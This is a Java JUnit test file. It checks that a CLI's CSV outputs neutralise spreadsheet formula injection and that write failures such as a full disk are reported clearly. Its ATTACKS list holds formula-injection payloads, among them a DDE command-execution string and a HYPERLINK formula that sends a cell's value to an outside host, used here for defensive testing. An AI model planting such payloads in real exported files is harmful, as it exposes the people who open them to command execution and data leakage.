package retention.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import picocli.CommandLine;
import retention.posts.CsvFixture;

/** The files that commands write: what a spreadsheet makes of them, and what is said where the disk is full. */
class WrittenFilesTest {

    /** Formulas, and what may stand before them for a spreadsheet to take them for one nevertheless. */
    private static final List<String> ATTACKS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "＝1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example.invalid?\"&A1)",
            "hello;=1+1",
            "hello; =1+1",
            "hello;\"=1+1\"",
            "hello\";=1+1",
            "hello;'=1+1",
            "hello\t=1+1",
            "hello\n=1+1",
            "hello\r\n@SUM(1+1)",
            "hello\r=1+1",
            "\"=1+1",
            "\u00A0=1+1",
            "\u200B=1+1",
            "\uFEFF=1+1",
            "' =1+1");

    private static final List<String> TEXTS =
            List.of("title", "content", "label", "user_name", "address", "ip_localtion", "image", "type");
    private static final Pattern NUMBER = Pattern.compile("-?[0-9.]+(E-?[0-9]+)?");

    @TempDir
    Path folder;

    @ParameterizedTest
    @ValueSource(strings = {"import", "annotate", "users"})
    void noSpreadsheetFindsAFormulaInThem(String command) throws IOException {
        var posts = CsvFixture.csv();
        for (int i = 0; i < ATTACKS.size(); i++) {
            for (int j = 0; j < TEXTS.size(); j++) {
                posts.row(
                        "user_id",
                        "%024x".formatted(i + 1),
                        "post_id",
                        "67852ccd%016x".formatted(i * TEXTS.size() + j + 1),
                        TEXTS.get(j),
                        ATTACKS.get(i));
            }
            // These rows are set aside, with the reason.
            posts.row("user_id", ATTACKS.get(i))
                    .row("create_time", ATTACKS.get(i))
                    .row("post_id", ATTACKS.get(i));
        }
        var file = Files.writeString(folder.resolve("=1+1;=1+1.csv"), posts.text());
        var written = folder.resolve("written.csv");
        assertThat(run(command, file.toString(), "--out", written.toString())).contains("rows were set aside");
        var text = Files.readString(written);
        assertThat(text.lines().count()).isGreaterThan(ATTACKS.size());
        try (var rows = CSVParser.parse(written, StandardCharsets.UTF_8, CSVFormat.RFC4180)) {
            rows.forEach(row -> assertThat(row).allSatisfy(WrittenFilesTest::isNoFormula));
        }
        // Where the semicolon separates cells; some programs end a cell or a row inside quotes, too.
        assertThat(text.split("[;\t\r\n]")).allSatisfy(WrittenFilesTest::isNoFormula);
    }

    private static void isNoFormula(String cell) {
        var seen = cell.replaceAll("^[\\s\\p{Z}\\p{Cf}\"]+", "");
        assertThat(NUMBER.matcher(seen).matches() || !seen.matches("(?s)[=+\\-@＝＋－＠].*"))
                .as("%s", seen)
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"import", "annotate", "users", "embed"})
    void aFullDiskIsNamedWithTheSystemsReason(String command) throws IOException {
        var full = Path.of("/dev/full");
        assumeTrue(Files.exists(full), "no device that is always full");
        var posts = Files.writeString(
                folder.resolve("posts.csv"), CsvFixture.csv().row().text());
        assertThat(run(command, posts.toString(), "--out", full.toString()).lines())
                .last()
                .isEqualTo("Cannot write /dev/full: No space left on device");
    }

    @Test
    void aFullDiskIsNamedWhereAReplicaIsWritten() {
        var full = Path.of("/dev/full");
        assumeTrue(Files.exists(full), "no device that is always full");
        assertThat(run("replica", "--posts", "300", "--out", full.toString()))
                .isEqualToIgnoringNewLines("Cannot write /dev/full: No space left on device");
    }

    @Test
    void aReplicaIsNoFolder() {
        assertThat(run("replica", "--posts", "300", "--out", "/").lines())
                .singleElement()
                .asString()
                .startsWith("Cannot write /: ");
    }

    @Test
    void aFolderThatIsAFileIsNamed() throws IOException {
        var posts = Files.writeString(
                folder.resolve("posts.csv"), CsvFixture.csv().row().text());
        var below = posts.resolve("users.csv");
        assertThat(run("users", posts.toString(), "--out", below.toString()).lines())
                .singleElement()
                .asString()
                .startsWith("Cannot write " + below + ": ");
    }

    /** What a command says of what went wrong. */
    private static String run(String... arguments) {
        var err = new StringWriter();
        Retention.run(
                new CommandLine(new Retention()),
                new PrintWriter(new StringWriter()),
                new PrintWriter(err, true),
                arguments);
        return err.toString();
    }
}
